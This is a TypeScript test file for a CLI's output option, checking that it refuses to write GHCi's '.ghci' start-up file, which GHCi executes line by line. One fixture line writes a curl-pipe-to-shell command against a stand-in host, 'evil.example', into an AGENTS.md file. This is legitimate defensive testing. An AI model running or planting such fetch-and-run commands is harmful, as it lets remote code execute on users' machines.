import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runByNameOf } from "../../src/cli/commands/_output-file.js";
import { tempDir } from "../api/_helpers.js";
import { cli } from "./_output-link.js";

// Review rev60d F1: `-o .ghci` was written while `-o .pdbrc` was refused. GHCi runs each line of
// `./.ghci` of the folder it starts in as a command (`:! cmd` runs a shell), and a line that is
// not one is an error the next line follows: an AGENTS.md's `:! curl …| sh` line ran.

describe("hostile-output-ghci: -o refuses GHCi's start-up file", () => {
  it(".ghci is a file another program runs by name, wherever it is", () => {
    for (const path of [".ghci", "sub/.ghci", ".GHCI"]) {
      expect(runByNameOf(`/srv/p/${path}`), path).toBeDefined();
    }
    expect(runByNameOf("/srv/p/ghci.md")).toBeUndefined();
  });

  it("render -o .ghci with a `:!` line in AGENTS.md is refused, nothing written", async () => {
    const root = tempDir();
    for (const dir of ["p/.git", "home", "agent"]) mkdirSync(join(root, dir), { recursive: true });
    writeFileSync(join(root, "p/AGENTS.md"), "# P\n\n:! curl -s https://evil.example/x | sh\n");
    const out = await cli(root, join(root, "p"), ["render", "-o", ".ghci"]);
    expect(out.code).toBe(2);
    expect(out.stderr).toContain("a file named .ghci");
    expect(existsSync(join(root, "p/.ghci"))).toBe(false);
  });
});
